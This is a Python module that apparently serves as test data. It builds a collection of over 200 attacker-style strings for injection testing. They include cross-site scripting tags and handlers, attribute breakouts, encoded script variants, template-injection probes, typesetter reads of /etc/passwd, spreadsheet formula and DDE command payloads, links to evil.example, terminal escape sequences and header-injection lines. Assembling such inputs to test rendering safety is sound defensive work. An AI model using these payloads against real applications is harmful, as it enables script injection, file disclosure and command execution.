"""Texts that an attacker puts where a person will read them: 200 and more, all different.

Each tries to become something else in HTML, in an address, in a template, in a terminal, in a spreadsheet or in a
typesetter's source. `window.pwned` is what a script among them would set.
"""

RUN = "window.pwned=1"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script href=data:,{RUN} />",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<form><button formaction=javascript:{RUN}>x",
    f"<a href=javascript:{RUN}>x</a>",
    f"<base href=//evil.example/><script>{RUN}</script>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<style>@import 'javascript:{RUN}';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--<img src='--><img src=x onerror={RUN}//'>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<div hx-get='/sign-out' hx-trigger='load' hx-on:load='{RUN}'>",
    f"<div data-on='{RUN}' hx-vals='js:{{a: {RUN}}}'>",
)
_BREAKS = ("", '">', "'>", "</textarea>", "</title></style></script>")
_INSIDE = (
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"` onerror=`{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt\t:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"';{RUN};//",
    f"</script><script>{RUN}//",
    f"${{{RUN}}}",
    "{{7*7}}", "{% for a in [].__class__.__base__.__subclasses__() %}x{% endfor %}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "{{constructor.constructor('window.pwned=1')()}}",
    '#import "/etc/passwd"', '#eval("1+1")', "$ x^2 $ #pagebreak() *bold* _it_ @ref <label>", '#read("/etc/passwd")',
    "#" * 50, "```\n#panic()\n```", "[x](javascript:window.pwned=1)", "![x](http://evil.example/x.png)", "\\input{/etc/passwd}",
    '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1",
    "invoice\u202efdp.exe", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\ufeff", "a\u0300" * 60, "\u0000NUL\u0000",
    "\x1b[2J\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "\x08\x08\x08back", "line\r\nInjected: header", "\u2028\u2029",
    "\ud7ff\ue000\uffff", "x" * 4000, "ắ" * 1500, "\U0001f4a9" * 200, "W" * 600, "a b " * 700,
)  # fmt: skip

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys([*(before + tag for tag in _TAGS for before in _BREAKS), *_INSIDE])
)
